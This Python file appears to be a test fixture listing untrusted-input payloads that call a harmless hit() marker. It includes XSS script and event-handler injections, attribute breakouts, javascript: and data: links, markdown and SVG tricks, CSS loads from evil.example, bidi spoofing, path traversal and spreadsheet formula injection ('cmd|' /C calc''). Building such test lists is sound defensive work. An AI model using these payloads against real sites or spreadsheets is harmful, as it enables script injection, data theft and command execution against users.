"""Text that strangers might write into a register, each piece an attack that calls ``hit()``."""

from __future__ import annotations

_SCRIPTS = [
    "<script>hit()</script>",
    "<SCRIPT>hit()</SCRIPT >",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,hit()></script>",
    "<script type=module>hit()</script>",
    "</title><script>hit()</script>",
    "</style><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</caption></table><script>hit()</script>",
    "</svg><script>hit()</script>",
    "--><script>hit()</script><!--",
    "]]><script>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script\x0b>hit()</script>",
    "<script/x>hit()</script>",
    "\ufeff<script>hit()</script>",
    "＜script＞hit()＜/script＞",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "<noscript><p title='</noscript><script>hit()</script>'>",
    "<template><script>hit()</script></template>",
]
_HANDLERS = [
    f"<{element} {handler}=hit()>"
    for element, handler in [
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"),
        ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
        ("marquee", "onstart"), ("select autofocus", "onfocus"), ("iframe", "onload"),
        ("object data=x", "onerror"), ("p style=animation:a", "onanimationstart"),
        ("a href=# tabindex=1", "onclick"), ("div onmouseover=hit()", "onpointerenter"),
        ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("image href=x", "onerror"),
        ("math", "onclick"), ("form", "onsubmit"), ("button", "onclick"), ("track", "onerror"),
        ("body", "onpageshow"), ("video", "onloadstart"), ("xss contenteditable autofocus", "onfocus"),
    ]
]  # fmt: skip
_BREAKOUTS = [
    '" onclick="hit()',
    "' onclick='hit()",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    '"/><svg onload=hit()>',
    '" autofocus onfocus="hit()" x="',
    "` onmouseover=hit() `",
    "x' onload='hit()",
    '"><a href="javascript:hit()">x</a>',
    "\"--></style></title><img src=x onerror='hit()'>",
]
_LINKS = [
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    " javascript:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "vbscript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hit()>",
    "blob:hit()",
    "view-source:javascript:hit()",
    "<a href=javascript:hit()>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<area href=javascript:hit()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=javascript:hit()><button>x",
    "<iframe src=javascript:hit()>",
    "<iframe srcdoc='<script>hit()</script>'>",
    "<embed src=javascript:hit()>",
    "<object data=javascript:hit()>",
]
_MARKDOWN = [
    "[x](javascript:hit())",
    "![x](javascript:hit())",
    "![x](https://evil.example/x.png)",
    "[x](data:text/html,<script>hit()</script>)",
    "<javascript:hit()>",
    "[x]: javascript:hit()\n\n[x]",
    "## <img src=x onerror=hit()>",
    "`<img src=x onerror=hit()>`",
    "| <img src=x onerror=hit()> |\n|---|",
    "$\\href{javascript:hit()}{x}$",
    "[<img src=x onerror=hit()>](x)",
    "https://evil.example/",
]
_STYLES = [
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style=background:url(//evil.example/x)>x</p>",
    "<p style='width:expression(hit())'>x</p>",
    "}*{background:url(//evil.example/x)}",
    "\\3c script\\3e hit()\\3c/script\\3e ",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style='position:fixed;inset:0;z-index:9'>cover</div>",
    "';}@font-face{font-family:x;src:url(//evil.example/x)}",
]
_DRAWINGS = [
    "<svg><script>hit()</script></svg>",
    "<svg><a xlink:href=javascript:hit()><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:hit()></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>hit()</script>'></foreignObject></svg>",
    "<svg><image href=//evil.example/x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></math>",
    "<math href=javascript:hit()>x</math>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
]
_TEXT = [
    "\u202eevil\u202d",
    "\u2066\u202e)(lamron\u2069",
    "\u200f\u200eabc",
    "a\x00b",
    "\x1b[31mred",
    "W" * 100_000,
    "가" * 1_000,
    "{{ 7*7 }}{% raw %}",
    "%s%n{0}{__class__}",
    "$\\frac{1}{2}$ $$",
    "../../../etc/passwd",
    "C:\\Windows\\<img src=x onerror=hit()>.csv",
]
FORMULAS = [
    "=HYPERLINK(\"https://evil.example/\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]  # fmt: skip

PAYLOADS = [
    *_SCRIPTS, *_HANDLERS, *_BREAKOUTS, *_LINKS, *_MARKDOWN, *_STYLES, *_DRAWINGS, *_TEXT, *FORMULAS,
]  # fmt: skip
